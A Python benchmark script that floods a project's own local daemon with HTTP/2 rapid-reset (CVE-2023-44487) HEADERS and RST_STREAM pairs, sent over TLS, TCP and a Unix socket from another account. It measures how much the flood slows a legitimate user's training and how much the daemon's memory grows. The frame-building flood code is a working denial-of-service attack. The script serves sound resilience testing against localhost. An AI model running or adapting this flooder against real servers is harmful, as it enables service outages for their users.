#!/usr/bin/env python3
"""Measures how much an attack by rapid reset (CVE-2023-44487) slows another user's training.

usage: rapid_reset.py [--seconds N]

The attacker has no token. It sends pairs of HEADERS and RST_STREAM as fast as the daemon reads them, 100 a write, and
connects again whenever its connection is closed: over two TLS connections, over two TCP connections, and, if this program
runs as root, over a Unix socket from another account. The user trains over TLS or TCP. Prints the user's steps per second
before, during and after the attack, how many pairs were sent, and the daemon's resident memory.

Two attackers need processor time of their own, which on a small machine the user and the daemon lack. So the same number
of busy processes that attack nothing are measured, too, and the ratio to those is the daemon's own part.
"""

import argparse
import contextlib
import multiprocessing
import os
import pathlib
import shutil
import socket
import ssl
import subprocess
import sys
import tempfile
import time
from collections.abc import Callable, Iterator

sys.path.insert(0, str(pathlib.Path(__file__).resolve().parent.parent))
import kiln  # noqa: E402
import numpy as np  # noqa: E402

from certificates import certificate  # noqa: E402
from kilnd_process import Kilnd, program  # noqa: E402

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\0\0\0\4\0\0\0\0\0"  # and empty SETTINGS: RFC 9113, section 3.4
PAIRS_PER_WRITE = 100
OTHER_ACCOUNT = 65534  # an account that owns no files
USER_CONFIG = "[auth]\nsystem_users = true\n"


def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def literal(name: bytes, value: bytes) -> bytes:
    """Encodes a header: RFC 7541, section 6.2.2."""
    return b"\0" + bytes([len(name)]) + name + bytes([len(value)]) + value


HEADERS = b"\x83\x86" + literal(b":path", b"/kiln.v1.DeviceService/ListDevices") + literal(
    b":authority", b"localhost") + literal(b"content-type", b"application/grpc") + literal(b"te", b"trailers")


def pairs(first_stream: int) -> bytes:
    cancel = (8).to_bytes(4, "big")
    return b"".join(
        frame(1, 4, stream, HEADERS) + frame(3, 0, stream, cancel)
        for stream in range(first_stream, first_stream + 2 * PAIRS_PER_WRITE, 2))


def attack(connect: Callable[[], socket.socket], sent, account: int) -> None:
    """Sends pairs until it is killed; counts them in `sent`."""
    if account:
        os.setgid(account)
        os.setuid(account)
    while True:
        with contextlib.suppress(OSError):
            with connect() as connection:
                connection.settimeout(5)
                connection.sendall(PREFACE)
                stream = 1
                while True:
                    connection.sendall(pairs(stream))
                    stream += 2 * PAIRS_PER_WRITE
                    with sent.get_lock():
                        sent.value += PAIRS_PER_WRITE


def spin() -> None:
    while True:
        pairs(1)


def over_tls(port: int, chain: pathlib.Path) -> socket.socket:
    context = ssl.create_default_context(cafile=str(chain))
    context.set_alpn_protocols(["h2"])
    return context.wrap_socket(socket.create_connection(("127.0.0.1", port)), server_hostname="127.0.0.1")


def over_tcp(port: int) -> socket.socket:
    return socket.create_connection(("127.0.0.1", port))


def over_unix(path: str) -> socket.socket:
    connection = socket.socket(socket.AF_UNIX)
    connection.connect(path)
    return connection


@contextlib.contextmanager
def processes(count: int, target: Callable, *arguments) -> Iterator[None]:
    running = [multiprocessing.Process(target=target, args=arguments, daemon=True) for _ in range(count)]
    for process in running:
        process.start()
    try:
        yield
    finally:
        for process in running:
            process.kill()
            process.join()


class Trainer:
    """The user: a small step whose loss is read after each."""

    def __init__(self) -> None:
        self.w = kiln.zeros(64, 64)

        @kiln.jit
        def step(w, x):
            error = ((x @ w - x) ** 2).mean()
            return w - 0.1 * (x.T @ (x @ w - x)) / 64, error

        self.step = step
        self.x = kiln.tensor(np.random.default_rng(0).standard_normal((64, 64), np.float32))
        self.rate(1)

    def rate(self, seconds: float) -> float:
        """Returns steps per second."""
        count, begin = 0, time.perf_counter()
        while time.perf_counter() - begin < seconds:
            self.w, error = self.step(self.w, self.x)
            error.item()
            count += 1
        return count / (time.perf_counter() - begin)


def resident_mib(daemon: Kilnd) -> float:
    return int(pathlib.Path(f"/proc/{daemon.process.pid}/statm").read_text().split()[1]) * os.sysconf("SC_PAGE_SIZE") / 2**20


def measure(name: str, daemon: Kilnd, trainer: Trainer, seconds: int, attackers: int, connect, account: int) -> None:
    sent = multiprocessing.Value("q", 0)
    before, memory = trainer.rate(seconds / 3), resident_mib(daemon)
    with processes(attackers, spin):
        busy = trainer.rate(seconds / 3)
    with processes(attackers, attack, connect, sent, account):
        during, most = trainer.rate(seconds), resident_mib(daemon)
    after = trainer.rate(seconds / 3)
    print(f"{name}: {before:.0f} steps/s alone, {busy:.0f} beside busy processes, {during:.0f} beside the attack "
          f"(x{during / before:.2f}; x{during / busy:.2f} of busy), {after:.0f} after it; {sent.value} pairs in {seconds} s; "
          f"memory {memory:.0f} -> {most:.0f} -> {resident_mib(daemon):.0f} MiB", flush=True)


def add_user(daemon: Kilnd) -> str:
    command = [program("clients/cli/kiln"), "user", "add", "trainer"]
    return subprocess.run(command, env=daemon.environment(), check=True, capture_output=True, text=True).stdout.strip()


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--seconds", type=int, default=30)
    options = parser.parse_args()
    folder = pathlib.Path(tempfile.mkdtemp(prefix="kiln-reset-"))
    folder.chmod(0o755)  # the other account reaches the socket
    try:
        chain, key = certificate(folder)
        with Kilnd(str(folder / "tls"), flags=[f"--tls_certificate={chain}", f"--tls_key={key}"]) as daemon:
            with kiln.connect(daemon.tcp_address, token=add_user(daemon), ca=str(chain)):
                measure("2 TLS connections", daemon, Trainer(), options.seconds, 2, lambda: over_tls(daemon.port, chain), 0)
        with Kilnd(str(folder / "tcp"), config=USER_CONFIG) as daemon:
            with kiln.connect(daemon.tcp_address, token=add_user(daemon)):
                trainer = Trainer()
                measure("2 TCP connections", daemon, trainer, options.seconds, 2, lambda: over_tcp(daemon.port), 0)
                if os.geteuid() == 0:
                    connect = lambda: over_unix(str(daemon.folder / "kilnd.sock"))  # noqa: E731
                    measure("1 Unix socket of another account", daemon, trainer, options.seconds, 1, connect, OTHER_ACCOUNT)
    finally:
        shutil.rmtree(folder, ignore_errors=True)


if __name__ == "__main__":
    main()
